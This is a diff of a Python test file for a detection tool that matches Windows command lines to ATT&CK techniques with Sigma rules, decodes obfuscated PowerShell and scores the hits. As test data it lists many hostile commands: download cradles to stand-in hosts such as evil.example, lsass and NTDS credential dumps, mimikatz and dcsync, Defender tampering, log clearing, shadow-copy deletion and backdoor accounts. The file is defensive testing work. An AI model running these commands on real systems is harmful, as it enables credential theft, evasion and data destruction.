@@ -1,5 +1,5 @@
-"""The detection rules and scoring of tools.behaviour, and the deobfuscation they run on
-(tools.decode.unfold)."""
+"""The detection of tools.behaviour (Sigma rules over command lines and their decoded layers,
+obfuscation and image rules), its scoring, and the deobfuscation it runs on (tools.decode)."""
 
 from __future__ import annotations
 
@@ -7,136 +7,90 @@ import base64
 
 import pytest
 
+from core.schemas import Severity
 from tools.attack import AttackKB
 from tools.behaviour import (
-    PROCESS_RULES,
-    TEXT_RULES,
+    OBFUSCATION_RULES,
     ProcessView,
+    Rule,
     RuleHit,
+    Stage,
     assess,
+    base_name,
+    command_image,
     rule_catalogue,
+    scan_command,
     scan_process,
     scan_text,
-    scan_text_deep,
 )
 from tools.decode import decode_char_codes, normalise_escapes, unfold
+from tools.sigma.corpus import default_engine
+from tools.sigma.engine import SigmaEngine
 
 
 def _enc(script: str) -> str:
     return base64.b64encode(script.encode("utf-16-le")).decode()
 
 
-# At least one real-world-shaped command line per text rule; each must fire its rule.
-EXAMPLES: dict[str, list[str]] = {
-    "ps_download_execute": [
-        "powershell -c \"IEX(New-Object Net.WebClient).downloadString('https://x.example/a.ps1')\"",
-        "iwr http://10.0.0.5/p.ps1 -UseBasicParsing | iex",
-    ],
-    "wmic_process_create": ["wmic  process call create notepad.exe"],
-    "script_from_user_path": [
-        "cscript  //nologo C:\\Users\\SVC-SQ~1\\AppData\\Local\\Temp\\UbdXv.vbs"
-    ],
-    "ps_policy_bypass": ["powershell.exe -ExecutionPolicy Bypass -File run.ps1"],
-    "sql_xp_cmdshell": ["EXEC master..xp_cmdshell 'whoami'"],
-    "ps_web_download": [
-        "(New-Object System.Net.WebClient).DownloadFile('http://a.example/x.exe','x.exe')"
-    ],
-    "cli_web_download": ["curl  --output hello.txt https://12.34.56.78/hack/evil.txt"],
-    "certutil_download": ["certutil.exe -urlcache -split -f http://a.example/p.exe p.exe"],
-    "bits_transfer": [
-        "bitsadmin /transfer job /download /priority high http://a.example/x.exe C:\\x.exe",
-        "Start-BitsTransfer -Source https://a.example/x -Destination C:\\Users\\bits.ps1",
-    ],
-    "netsh_portproxy": [
-        "netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1",
-        "netsh interface portproxy add v4tov4 listenport=4444 connectaddress=10.0.0.1",
-    ],
-    "ps_encoded_command": [f"powershell.exe -NoP -enc {_enc('whoami')}"],
-    "ps_hidden_window": [
-        "powershell.exe -nop -w hidden -c calc",
-        "powershell -WindowStyle Hidden x",
-    ],
-    "cmd_hidden_start": ['cmd.exe /c "start /b /min C:\\Users\\x\\Music\\random.vbs"'],
-    "char_code_obfuscation": [
-        "powershell -C \" -JOIN('73A69H88@32'.split('AH@')|%{[char]$_})\"",
-        "[char]73+[char]69+[char]88+[char]32",
-    ],
-    "cmd_caret_obfuscation": ["c^m^d /c p^o^w^e^r^s^h^e^l^l -c x"],
-    "embedded_pe_base64": [
-        "cmd /c echo TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA>>%TEMP%\\a.b64"
-    ],
-    "echo_base64_staging": ["cmd /c echo " + "QUFB" * 20 + ">>%TEMP%\\feyQV.b64"],
-    "certutil_decode": ["certutil  -decode file.base64 file-decoded.ext"],
-    "rundll32_script": ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)'],
-    "rundll32_user_dll": ["rundll32.exe C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll,Start"],
-    "regsvr32_remote": ["regsvr32 /s /n /u /i:http://a.example/file.sct scrobj.dll"],
-    "mshta_remote": ["mshta.exe http://a.example/payload.hta", 'mshta vbscript:Execute("x")'],
-    "msiexec_remote": ["msiexec /q /i http://a.example/p.msi"],
-    "defender_tamper": [
-        "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
-        "powershell Add-MpPreference -ExclusionPath C:\\Users",
-        "Dism  /online /Disable-Feature /FeatureName:Windows-Defender /Remove /NoRestart",
-    ],
-    "security_service_stop": ["sc  stop mpssvc", "net stop WinDefend"],
-    "amsi_bypass": ["[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"],
-    "event_log_clear": ["wevtutil cl Security", "Clear-EventLog -LogName Security"],
-    "firewall_disable": ["netsh advfirewall set allprofiles state off"],
-    "audit_policy_tamper": ["auditpol /clear /y"],
-    "usn_journal_delete": ["fsutil usn deletejournal /d c:"],
-    "reflective_load": ["[System.Reflection.Assembly]::Load($bytes)"],
-    "browser_extension_load": [
-        '"chrome.exe" --load-extension="C:\\Users\\u\\AppData\\Local\\Temp\\ext"'
-    ],
-    "lsass_dump_procdump": ["procdump64.exe -accepteula -ma lsass.exe lsass.dmp"],
-    "lsass_dump_comsvcs": [
-        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full",
-        "rundll32 comsvcs.dll #24 624 out.dmp full",
-    ],
-    "lsass_dump_generic": ["Out-Minidump -Process (Get-Process lsass)"],
-    "mimikatz": ['mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
-    "dcsync": ['mimikatz "lsadump::dcsync /domain:corp.local /user:krbtgt"'],
-    "sam_hive_dump": ["reg save HKLM\\SAM C:\\temp\\sam.save"],
-    "hive_file_copy": [
-        "print /D:C:\\t\\s.txt \\\\localhost\\C$\\@GMT-1\\windows\\system32\\config\\SYSTEM"
-    ],
-    "ntds_dump": ['ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'],
-    "packet_capture": ["pktmon  filter add -p 80", "netsh trace start capture=yes"],
-    "schtasks_create": ['schtasks /create /tn upd /tr "C:\\x.exe" /sc onlogon'],
-    "schtasks_system": [
-        '"C:\\Windows\\system32\\schtasks.exe" /create /sc minute /tn t /tr C:\\s.cmd /ru SYSTEM'
-    ],
-    "run_key": [
-        'REG   ADD "HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run" /V "x" /D "C:\\x.exe"'
-    ],
-    "service_create": ['sc.exe create evil binPath= "C:\\x.exe" start= auto'],
-    "wmi_subscription": ["Set-WmiInstance -Class __EventFilter -Namespace root\\subscription"],
-    "account_create": ["net user backdoor P@ssw0rd! /add"],
-    "admin_group_add": ["net localgroup administrators backdoor /add"],
-    "printer_port_file": ["Add-PrinterPort -Name .\\NetshHelperBeacon.dll"],
-    "rdp_hijack": ["tscon  2 /dest:rdp-tcp#5"],
-    "psexec": ["PsExec.exe \\\\srv01 -s cmd.exe"],
-    "impacket_exec": ["cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1614 2>&1"],
-    "wmic_remote": ["wmic /node:10.0.0.5 process list"],
-    "shadow_copy_delete": [
-        "vssadmin.exe delete shadows /all /quiet",
-        "wmic shadowcopy delete",
-        "bcdedit /set {default} recoveryenabled No",
-    ],
-    "cipher_wipe": ["cipher.exe  /w:C:"],
-    "account_discovery": ['"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe" useraccount get /ALL'],
-    "owner_discovery": ["whoami /all"],
-    "domain_trust_discovery": [
-        "nltest /domain_trusts",
-        "[System.DirectoryServices.ActiveDirectory.Forest]::GetCurrentForest().Sites",
-    ],
-    "system_discovery": [
-        '"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe" csproduct get uuid',
-        "systeminfo",
-    ],
-    "network_config_discovery": ["ipconfig /all"],
-    "process_discovery": ['cmd  /c "tasklist | findstr powershell"'],
-    "cached_credential_discovery": ["cmdkey  /list"],
-}
+ENCODED_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
+
+# Command lines written for these tests, each showing one technique's behaviour in a generic
+# form, and the ATT&CK technique the rules must find on it (a sub-technique of the same
+# technique counts: SigmaHQ tags some rules with the parent).
+TECHNIQUES: list[tuple[str, str]] = [
+    (
+        "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('https://x.example/a')\"",
+        "T1059.001",
+    ),
+    ('wmic process call create "notepad.exe"', "T1047"),
+    ("cscript //nologo C:\\Users\\ann\\AppData\\Local\\Temp\\stage.vbs", "T1059"),
+    ("curl -o C:\\Users\\Public\\t.exe https://198.51.100.7/t.exe", "T1105"),
+    ("certutil.exe -urlcache -split -f http://files.example/t.exe t.exe", "T1105"),
+    ("bitsadmin /transfer j /download http://files.example/t.exe C:\\Temp\\t.exe", "T1197"),
+    ("netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.1.1.5", "T1090"),
+    ("powershell.exe -nop -w hidden -c Get-Date", "T1564.003"),
+    ('cmd.exe /c "start /b /min C:\\Users\\x\\Music\\run.vbs"', "T1564.003"),
+    ("certutil -decode blob.txt out.exe", "T1027"),
+    ("rundll32.exe C:\\Users\\ann\\AppData\\Local\\Temp\\l.dll,Entry", "T1218.011"),
+    ("regsvr32 /s /n /u /i:http://files.example/x.sct scrobj.dll", "T1218.010"),
+    ("mshta.exe http://files.example/x.hta", "T1218.005"),
+    ("msiexec /q /i http://files.example/p.msi", "T1218.007"),
+    ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "T1685"),
+    ("sc stop WinDefend", "T1685"),
+    ("wevtutil cl System", "T1685.005"),
+    ("auditpol /clear /y", "T1685.001"),
+    ("fsutil usn deletejournal /d d:", "T1070"),
+    ('"chrome.exe" --load-extension="C:\\Users\\u\\AppData\\Local\\Temp\\e"', "T1176.001"),
+    ("procdump.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp", "T1003.001"),
+    (
+        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 700 C:\\Temp\\m.bin full",
+        "T1003.001",
+    ),
+    ("reg save HKLM\\SYSTEM C:\\Temp\\sys.hiv", "T1003.002"),
+    ('ntdsutil "ac i ntds" "ifm" "create full C:\\Temp\\x" q q', "T1003.003"),
+    ("netsh trace start capture=yes tracefile=C:\\Temp\\c.etl", "T1040"),
+    ("schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon", "T1053.005"),
+    (
+        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe",
+        "T1547.001",
+    ),
+    ('sc.exe create upd binPath= "C:\\Users\\Public\\u.exe" start= auto', "T1543.003"),
+    (
+        "Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{}",
+        "T1546.003",
+    ),
+    ("net user helpdesk2 Winter2024! /add", "T1136.001"),
+    ("net localgroup administrators helpdesk2 /add", "T1098"),
+    ("sqlcmd -S db01 -Q \"EXEC master..xp_cmdshell 'hostname'\"", "T1505.001"),
+    ("tscon 3 /dest:rdp-tcp#7", "T1563.002"),
+    ('wmic /node:10.1.1.9 process call create "cmd /c hostname"', "T1047"),
+    ("vssadmin delete shadows /all /quiet", "T1490"),
+    ("bcdedit /set {default} recoveryenabled No", "T1490"),
+    ("cipher /w:D:", "T1485"),
+    ("nltest /domain_trusts /all_trusts", "T1482"),
+    ("cmdkey /list", "T1003.005"),
+    ("systeminfo", "T1082"),
+]
 
 # Ordinary administration and user activity: no rule of severity medium or more may fire.
 BENIGN = [
@@ -144,15 +98,14 @@ BENIGN = [
     "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\a\\q3.docx"',
     "notepad.exe C:\\Users\\bob\\Documents\\notes.txt",
-    "powershell.exe Get-ChildItem C:\\Users -Recurse",
     "git clone https://github.com/org/repo.git",
     '"C:\\Windows\\system32\\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs"',
     "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
     "schtasks /query /fo LIST",
-    "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
     "sc query WinDefend",
-    # A module manifest lists cmdlet names; naming one is not running it.
-    'CmdletsToExport = "Get-EventLog", "Clear-EventLog", "New-Service", "Start-BitsTransfer"',
+    "rundll32.exe shell32.dll,OpenAs_RunDLL C:\\Users\\b\\Downloads\\report.pdf",
+    "powershell.exe -NoProfile -WindowStyle Normal -File C:\\Scripts\\inventory.ps1",
+    "Get-WmiObject -Namespace root\\subscription -Class __EventFilter",
 ]
 
 
@@ -161,8 +114,23 @@ def attack() -> AttackKB:
     return AttackKB.load()
 
 
-def fired(text: str) -> set[str]:
-    return {hit.rule.id for hit in scan_text_deep(text, "t")[0]}
+@pytest.fixture(scope="module")
+def engine() -> SigmaEngine:
+    return default_engine()
+
+
+def scan(engine: SigmaEngine, text: str, image: str = "", parent_image: str = "") -> list[RuleHit]:
+    return scan_command(engine, text, "t", image=image, parent_image=parent_image)
+
+
+def techniques(hits: list[RuleHit]) -> set[str]:
+    return {t for hit in hits for t in hit.rule.techniques}
+
+
+def shows(found: set[str], expected: str) -> bool:
+    """Whether ``expected`` is found, or a technique of the same parent."""
+    parent = expected.split(".")[0]
+    return any(t == expected or t.split(".")[0] == parent for t in found)
 
 
 def test_every_rule_is_documented_and_maps_to_current_attack(attack: AttackKB) -> None:
@@ -178,46 +146,127 @@ def test_every_rule_is_documented_and_maps_to_current_attack(attack: AttackKB) -
         assert rule.title, rule.id
 
 
-def test_every_text_rule_has_an_example() -> None:
-    assert {r.id for r in TEXT_RULES} == set(EXAMPLES)
+@pytest.mark.parametrize(("text", "technique"), TECHNIQUES)
+def test_the_sigma_rules_find_the_technique_of_a_command(
+    engine: SigmaEngine, text: str, technique: str
+) -> None:
+    hits = scan(engine, text)
+    assert shows(techniques(hits), technique), sorted(h.rule.title for h in hits)
+    for hit in hits:
+        assert hit.source == "t"
+        assert 0 < len(hit.excerpt) <= 160
 
 
-@pytest.mark.parametrize(
-    ("rule_id", "text"), [(rule, text) for rule, texts in EXAMPLES.items() for text in texts]
-)
-def test_rule_fires_on_its_example(rule_id: str, text: str) -> None:
-    hits = [h for h in scan_text(text, "cmd") if h.rule.id == rule_id]
-    assert len(hits) == 1
-    assert hits[0].source == "cmd"
-    assert 0 < len(hits[0].excerpt) <= 160
+def test_the_technique_table_is_mostly_found_at_medium_or_worse(engine: SigmaEngine) -> None:
+    serious = [
+        text
+        for text, technique in TECHNIQUES
+        if any(
+            shows(set(h.rule.techniques), technique) and h.rule.severity >= "medium"
+            for h in scan(engine, text)
+        )
+    ]
+    # Discovery (systeminfo) is rated low by SigmaHQ; everything else is an attack step.
+    assert len(serious) >= len(TECHNIQUES) - 2
 
 
 @pytest.mark.parametrize("text", BENIGN)
-def test_benign_commands_raise_nothing_serious(text: str) -> None:
-    serious = {
-        h.rule.id
-        for h in scan_text_deep(text, "t")[0]
-        if h.rule.severity in ("medium", "high", "critical")
-    }
+def test_benign_commands_raise_nothing_serious(engine: SigmaEngine, text: str) -> None:
+    serious = {h.rule.title for h in scan(engine, text) if h.rule.severity >= "medium"}
     assert serious == set()
 
 
-def test_rules_are_case_insensitive_and_see_through_quotes() -> None:
-    assert "shadow_copy_delete" in fired(
-        '"C:\\WINDOWS\\SYSTEM32\\VSSADMIN.EXE" DELETE SHADOWS /ALL'
+def test_a_sigma_hit_is_a_rule_with_its_level_and_tags(engine: SigmaEngine) -> None:
+    [hit] = [
+        h
+        for h in scan(engine, "vssadmin.exe delete shadows /all /quiet")
+        if "T1490" in h.rule.techniques
+    ]
+    assert hit.rule.title.endswith("(Sigma, high)")
+    assert (hit.rule.severity, hit.rule.weight, hit.rule.stage) == ("high", 0.7, "impact")
+    assert "vssadmin" in hit.excerpt.lower()
+
+
+def test_rules_are_case_insensitive_and_see_through_quotes(engine: SigmaEngine) -> None:
+    assert "T1490" in techniques(
+        scan(engine, '"C:\\WINDOWS\\SYSTEM32\\VSSADMIN.EXE" DELETE SHADOWS /ALL')
     )
-    assert "schtasks_create" in fired("SCHTASKS.EXE /CREATE /TN x /TR y")
+    assert "T1053.005" in techniques(scan(engine, "SCHTASKS.EXE /CREATE /TN x /TR y /RU SYSTEM"))
 
 
-def test_encoded_powershell_is_decoded_and_its_payload_scanned() -> None:
-    payload = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
-    hits, layers = scan_text_deep(f"powershell -nop -w hidden -enc {_enc(payload)}", "cmd")
+def test_command_image_names_the_program_or_nothing() -> None:
+    assert command_image("vssadmin delete shadows") == "C:\\Windows\\System32\\vssadmin.exe"
+    assert (
+        command_image('"C:\\Program Files (x86)\\A\\a.exe" /q')
+        == "C:\\Program Files (x86)\\A\\a.exe"
+    )
+    assert command_image("\\??\\C:\\Windows\\system32\\conhost.exe 0x4") == (
+        "C:\\Windows\\system32\\conhost.exe"
+    )
+    assert command_image("%ComSpec% /c dir") == "C:\\Windows\\System32\\cmd.exe"
+    # Script fragments, cmdlets and blobs start no program.
+    for text in (
+        "IEX(New-Object Net.WebClient)",
+        "[Ref].Assembly.GetType('x')",
+        "Start-BitsTransfer -Source x",
+        "c^m^d /c x",
+        base64.b64encode(b"wevtutil cl Security and more").decode(),
+        "",
+    ):
+        assert command_image(text) == "", text
+
+
+def test_parent_and_child_are_judged_by_the_sigma_rules(engine: SigmaEngine) -> None:
+    cmd = "C:\\Windows\\System32\\cmd.exe"
+    powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+    cases = [
+        (cmd, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "T1204.002"),
+        (cmd, "C:\\Program Files\\Microsoft SQL Server\\MSSQL\\Binn\\sqlservr.exe", "T1505.003"),
+        (cmd, "c:\\windows\\system32\\inetsrv\\w3wp.exe", "T1505.003"),
+        (powershell, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "T1047"),
+    ]
+    for image, parent, technique in cases:
+        hits = scan(engine, f"{base_name(image)} /c hostname", image=image, parent_image=parent)
+        assert technique in techniques(hits), (parent, sorted(h.rule.title for h in hits))
+    # Explorer starting cmd, and Office opening a document, are ordinary.
+    ordinary = scan(engine, "cmd.exe /c dir", image=cmd, parent_image="C:\\Windows\\explorer.exe")
+    assert [h for h in ordinary if h.rule.severity >= "medium"] == []
+
+
+def test_encoded_powershell_is_decoded_and_its_payload_scanned(engine: SigmaEngine) -> None:
+    line = f"powershell -nop -w hidden -enc {_enc(ENCODED_CRADLE)}"
+    layers = unfold(line)
     assert [layer.method for layer in layers] == ["powershell_encoded_command"]
-    assert layers[0].text == payload
-    by_rule = {h.rule.id: h.source for h in hits}
-    assert by_rule["ps_encoded_command"] == "cmd"
-    assert by_rule["ps_hidden_window"] == "cmd"
-    assert by_rule["ps_download_execute"] == "cmd (powershell_encoded_command)"
+    assert layers[0].text == ENCODED_CRADLE
+    hits = scan_command(engine, line, "cmd", layers=layers)
+    where = {t: h.source for h in hits for t in h.rule.techniques}
+    assert where["T1564.003"] == "cmd"  # the hidden window is on the command line
+    cradle = [h for h in hits if h.source == "cmd (powershell_encoded_command)"]
+    assert "T1059.001" in techniques(cradle)
+    # One hit per rule, on the outermost text where it fires.
+    assert len({h.rule.id for h in hits}) == len(hits)
+
+
+def test_layers_are_decoded_when_not_given(engine: SigmaEngine) -> None:
+    nested = base64.b64encode(base64.b64encode(b"wevtutil cl Security")).decode()
+    layers = unfold(nested)
+    assert [layer.method for layer in layers] == ["base64", "base64 > base64"]
+    assert layers[-1].text == "wevtutil cl Security"
+    hits = scan(engine, nested)
+    assert {h.source for h in hits if "T1685.005" in h.rule.techniques} == {"t (base64 > base64)"}
+
+
+def test_obfuscation_rules_stay_code(engine: SigmaEngine) -> None:
+    examples = {
+        "char_code_obfuscation": "[char]73+[char]69+[char]88+[char]32",
+        "cmd_caret_obfuscation": "c^m^d /c p^o^w^e^r^s^h^e^l^l -c x",
+        "embedded_pe_base64": "cmd /c echo TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA>>a.b64",
+        "echo_base64_staging": "cmd /c echo " + "QUFB" * 20 + ">>%TEMP%\\x.b64",
+    }
+    assert set(examples) == {r.id for r in OBFUSCATION_RULES}
+    for rule_id, text in examples.items():
+        assert rule_id in {h.rule.id for h in scan_text(text, "t")}
+        assert rule_id in {h.rule.id for h in scan(engine, text)}
 
 
 def test_char_codes_are_decoded() -> None:
@@ -236,75 +285,13 @@ def test_escapes_and_concatenation_are_undone() -> None:
     assert normalise_escapes("p^o^w^e^r^s^h^e^l^l") == "powershell"
     assert normalise_escapes("I`E`X") == "IEX"
     assert normalise_escapes("plain text") is None
-    assert "amsi_bypass" in fired(
-        "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUt'+'ils')"
-    )
 
 
-def test_unfold_stops_on_plain_text_and_bounds_its_work() -> None:
-    assert unfold("notepad.exe C:\\notes.txt") == []
-    nested = base64.b64encode(base64.b64encode(b"wevtutil cl Security")).decode()
-    layers = unfold(nested)
-    assert [layer.method for layer in layers] == ["base64", "base64 > base64"]
-    assert layers[-1].text == "wevtutil cl Security"
-    assert "event_log_clear" in fired(nested)
-
-
-def test_crackmapexec_payload_from_the_evtx_dataset_is_decoded() -> None:
-    # The shape of the CrackMapExec launcher (T1027 folder): codes split by random letters.
-    script = "[Net.ServicePointManager]::x\nIEX (New-Object Net.WebClient).DownloadString('https://10.23.123.11:443/Invoke-Mimikatz.ps1')"
-    seps = "@AGkTfSH,"
-    codes = "".join(f"{ord(c)}{seps[i % len(seps)]}" for i, c in enumerate(script))[:-1]
-    line = (
-        f"powershell.exe -exec bypass -noni -nop -w 1 -C \" -JOIN('{codes}'.sPlIT('{seps}')"
-        "|%{([iNt] $_ -AS [char])})| .( $ENv:comsPec[4,26,25]-JOIn'')\""
-    )
-    hits, layers = scan_text_deep(line, "cmd")
-    assert layers[0].method == "char_codes"
-    assert "Invoke-Mimikatz.ps1" in layers[0].text
-    assert {"char_code_obfuscation", "ps_hidden_window", "ps_download_execute", "mimikatz"} <= {
-        h.rule.id for h in hits
-    }
-
-
-# -- process and file rules -------------------------------------------------------------------
+# -- image and file rules ---------------------------------------------------------------------
 
 
 def process_rules(view: ProcessView) -> set[str]:
     return {hit.rule.id for hit in scan_process(view, "p")}
-
-
-def test_parent_child_rules() -> None:
-    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
-    assert process_rules(ProcessView("C:\\Windows\\System32\\cmd.exe", parent_image=office)) == {
-        "office_spawns_shell"
-    }
-    assert process_rules(
-        ProcessView(
-            "C:\\Windows\\System32\\cmd.exe",
-            parent_image="C:\\Program Files\\Microsoft SQL Server\\MSSQL\\Binn\\sqlservr.exe",
-        )
-    ) == {"sqlserver_spawns_shell"}
-    assert process_rules(
-        ProcessView(
-            "C:\\Windows\\System32\\cmd.exe",
-            parent_image="c:\\windows\\system32\\inetsrv\\w3wp.exe",
-        )
-    ) == {"webserver_spawns_shell"}
-    assert process_rules(
-        ProcessView(
-            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-            parent_image="C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
-        )
-    ) == {"wmi_spawns_shell"}
-    # Office opening a document, and explorer starting cmd, are ordinary.
-    assert process_rules(ProcessView(office, parent_image="C:\\Windows\\explorer.exe")) == set()
-    assert (
-        process_rules(
-            ProcessView("C:\\Windows\\System32\\cmd.exe", parent_image="C:\\Windows\\explorer.exe")
-        )
-        == set()
-    )
 
 
 def test_location_and_masquerading_rules() -> None:
@@ -346,9 +333,28 @@ def test_deceptive_names_and_renamed_tools() -> None:
 # -- scoring ----------------------------------------------------------------------------------
 
 
-def _hits(*rule_ids: str) -> list[RuleHit]:
-    rules = {r.id: r for r in (*TEXT_RULES, *PROCESS_RULES.values())}
-    return [RuleHit(rules[i], "s", "x") for i in rule_ids]
+# Rules as scoring sees them: (stage, severity, weight) by a name for the test.
+SCORED: dict[str, tuple[Stage, Severity, float]] = {
+    "task": ("persistence", Severity.MEDIUM, 0.6),
+    "download": ("command_and_control", Severity.HIGH, 0.8),
+    "remote_exec": ("lateral_movement", Severity.MEDIUM, 0.6),
+    "encoded": ("defense_evasion", Severity.MEDIUM, 0.6),
+    "hidden": ("defense_evasion", Severity.MEDIUM, 0.5),
+    "cradle": ("execution", Severity.HIGH, 0.8),
+    "whoami": ("discovery", Severity.LOW, 0.25),
+    "bypass": ("execution", Severity.LOW, 0.3),
+    "dump": ("credential_access", Severity.CRITICAL, 0.9),
+    "dcsync": ("credential_access", Severity.CRITICAL, 0.9),
+    "shadows": ("impact", Severity.CRITICAL, 0.9),
+}
+
+
+def _hits(*names: str) -> list[RuleHit]:
+    def rule(name: str) -> Rule:
+        stage, severity, weight = SCORED[name]
+        return Rule(name, name, ("T1059",), stage, severity, weight, "for scoring")
+
+    return [RuleHit(rule(name), "s", "x") for name in names]
 
 
 def test_assess_without_hits() -> None:
@@ -358,35 +364,31 @@ def test_assess_without_hits() -> None:
 
 
 def test_assess_takes_the_worst_rule_and_combines_weights() -> None:
-    one = assess(_hits("schtasks_create"), behaviour=True)
+    one = assess(_hits("task"), behaviour=True)
     assert (one.severity, one.confidence) == ("medium", 0.6)
     # Two rules: 1 - (1 - 0.6)(1 - 0.8) = 0.92; the same rule twice counts once.
-    two = assess(_hits("schtasks_create", "certutil_download", "certutil_download"), behaviour=True)
+    two = assess(_hits("task", "download", "download"), behaviour=True)
     assert (two.severity, two.confidence) == ("high", 0.92)
     assert two.stages == ("command_and_control", "persistence")
     assert not two.escalated
 
 
 def test_assess_escalates_activity_spanning_three_phases() -> None:
-    spread = assess(_hits("certutil_download", "schtasks_create", "psexec"), behaviour=True)
+    spread = assess(_hits("download", "task", "remote_exec"), behaviour=True)
     assert spread.escalated
     assert spread.severity == "critical"
     assert spread.phases == ("delivery", "foothold", "lateral movement")
     # A hidden, encoded download cradle is one phase (delivery) however many stages it has.
     cradle = assess(
-        _hits("ps_encoded_command", "ps_hidden_window", "ps_download_execute", "ps_web_download"),
+        _hits("encoded", "hidden", "cradle", "download"),
         behaviour=True,
     )
     assert (cradle.severity, cradle.escalated) == ("high", False)
     # Discovery and low rules do not count towards breadth.
-    narrow = assess(
-        _hits("certutil_download", "owner_discovery", "ps_policy_bypass"), behaviour=True
-    )
+    narrow = assess(_hits("download", "whoami", "bypass"), behaviour=True)
     assert not narrow.escalated
     assert narrow.severity == "high"
     # Confidence is capped: rules agreeing are still rules.
-    many = assess(
-        _hits("mimikatz", "dcsync", "lsass_dump_comsvcs", "shadow_copy_delete"), behaviour=True
-    )
+    many = assess(_hits("dump", "dcsync", "shadows"), behaviour=True)
     assert many.confidence == 0.95
     assert many.severity == "critical"
